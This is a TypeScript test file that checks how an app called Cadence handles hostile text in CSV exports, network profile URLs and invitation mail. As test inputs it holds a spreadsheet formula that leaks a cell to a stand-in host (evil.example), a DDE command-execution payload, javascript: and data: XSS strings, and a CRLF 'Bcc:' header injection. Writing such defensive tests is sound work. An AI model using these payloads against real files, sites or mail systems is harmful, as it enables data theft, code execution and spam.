import { Account } from "@cadence/core/account";
import { withActor } from "@cadence/core/actor";
import { Csv } from "@cadence/core/csv";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { connectAccount } from "../support/accounts.ts";
import { call, mailTo, signUp, uniqueEmail } from "../support/api.ts";
import { download, finished, type JobBody, jobsWorker } from "../support/jobs.ts";

// What Cadence writes out — files, links, mail — with hostile text in it.

describe("CSV export", () => {
  // Exports run as jobs on the jobs queue; this file plays its consumer.
  let worker: ReturnType<typeof jobsWorker>;
  beforeAll(() => {
    worker = jobsWorker(1);
  });
  afterAll(async () => {
    await worker.stop();
  });

  it("cells a spreadsheet would evaluate come back as text when the file is opened", async () => {
    const owner = await signUp("csv");
    const account = await connectAccount(owner, owner.workspaceId, "mastodon");
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1,2)",
      "\t=1+1",
    ];
    for (const text of formulas) {
      const created = await call("POST", `/workspaces/${owner.workspaceId}/posts`, {
        token: owner.accessToken,
        body: { text, targets: [{ accountId: account.id }] },
      });
      expect(created.status).toBe(201);
    }
    const month = new Date().toISOString().slice(0, 7);
    const started = await call<JobBody>("POST", `/workspaces/${owner.workspaceId}/posts/export`, {
      token: owner.accessToken,
      body: { format: "csv", from: month },
    });
    expect(started.status, started.text).toBe(202);
    const job = await finished(started, owner.accessToken);
    expect(job.state, JSON.stringify(job.error)).toBe("succeeded");
    const exported = await download(job);
    expect(exported.status).toBe(200);
    const [header, ...rows] = Csv.read(exported.text).rows.map((row) => row.fields);
    const textColumn = header?.indexOf("text") ?? -1;
    expect(textColumn).toBeGreaterThanOrEqual(0);
    const cells = rows.map((row) => row[textColumn] ?? "");
    expect(cells.sort()).toEqual(formulas.map((text) => `'${text}`).sort());
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe("URLs from networks", () => {
  it("javascript: and data: URLs are not stored for a profile or avatar", async () => {
    const owner = await signUp("js-url");
    const account = await withActor(
      {
        type: "user",
        userId: owner.userId,
        email: owner.email,
        sessionId: "test",
        workspace: { workspaceId: owner.workspaceId, role: "owner" },
      },
      () =>
        Account.connect({
          network: "mastodon",
          externalId: "hostile-1",
          handle: "hostile",
          displayName: "Hostile server",
          avatarUrl: "data:text/html,<script>alert(1)</script>",
          profileUrl: "javascript:alert(document.cookie)",
        }),
    );
    expect(account.profileUrl).toBeNull();
    expect(account.avatarUrl).toBeNull();
  });
});

describe("invitation mail", () => {
  it.each(["https://evil.example/invite", "javascript:alert(1)", "http://127.0.0.1:1/invite"])(
    "an acceptUrl of %s is refused and nothing is mailed",
    async (acceptUrl) => {
      const owner = await signUp("invite-link");
      const email = uniqueEmail("invitee");
      const response = await call("POST", `/workspaces/${owner.workspaceId}/invitations`, {
        token: owner.accessToken,
        body: { email, role: "editor", acceptUrl },
      });
      expect(response.status).toBe(400);
      expect(response.body.field).toBe("acceptUrl");
      expect(await mailTo(email)).toEqual([]);
    },
  );

  it("a name with line breaks does not reach the mail's headers", async () => {
    const owner = await signUp("header");
    const renamed = await call("PATCH", `/workspaces/${owner.workspaceId}`, {
      token: owner.accessToken,
      body: { name: "Acme\r\nBcc: victim@example.com" },
    });
    const email = uniqueEmail("invitee");
    await call("POST", `/workspaces/${owner.workspaceId}/invitations`, {
      token: owner.accessToken,
      body: { email, role: "editor" },
    });
    const [mail] = await mailTo(email);
    if (renamed.status < 300) expect(mail?.subject).toBeDefined();
    expect(mail?.subject ?? "").not.toMatch(/[\r\n]/);
  });

  it("mail to one recipient is rate-limited, so invitations cannot be used to flood an inbox", async () => {
    const owner = await signUp("flood");
    const email = uniqueEmail("flooded");
    const answers: number[] = [];
    for (let i = 0; i < 12; i++) {
      const created = await call<{ id: string }>(
        "POST",
        `/workspaces/${owner.workspaceId}/invitations`,
        { token: owner.accessToken, body: { email, role: "viewer" } },
      );
      answers.push(created.status);
      if (created.status === 201) {
        await call("DELETE", `/workspaces/${owner.workspaceId}/invitations/${created.body.id}`, {
          token: owner.accessToken,
        });
      }
    }
    expect(answers).toContain(429);
    expect((await mailTo(email)).length).toBeLessThanOrEqual(5);
  });
});
